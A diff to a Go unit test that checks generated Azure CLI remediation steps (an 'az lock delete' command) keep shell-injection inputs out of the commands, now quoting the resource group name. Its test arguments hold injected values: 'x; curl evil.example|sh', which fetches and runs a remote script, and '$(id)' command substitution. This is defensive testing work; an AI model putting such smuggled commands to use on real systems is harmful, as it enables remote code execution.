@@ -200,10 +200,10 @@ func TestAWaitIsSaidInTheSteps(t *testing.T) {
 }
 
 func TestACommandHoldsNothingForTheShell(t *testing.T) {
-	args := Args{"lock": "x; curl evil.example|sh", "scope": `/subscriptions/$(id)`, "group": "rg-app", "subscriptionid": "a6c4e2f8"}
+	args := Args{"lock": "x; curl evil.example|sh", "scope": `/subscriptions/$(id)`, "group": "rg (app)", "subscriptionid": "a6c4e2f8"}
 	d := Explain("read-only-lock", Situation{}, args, nil)
 	steps := strings.Join(d.Steps, "\n")
-	assert.Contains(t, steps, "az lock delete --name <lock> --resource-group rg-app --subscription a6c4e2f8")
+	assert.Contains(t, steps, `az lock delete --name "<lock>" --resource-group "rg (app)" --subscription a6c4e2f8`)
 	assert.Contains(t, d.Headline, "x; curl", "a sentence tells it as it is")
 	d = Explain("permission-missing", Situation{ObjectID: "e41a9d06"}, args, nil)
 	assert.NotContains(t, strings.Join(d.Steps, "\n"), "$(id)")
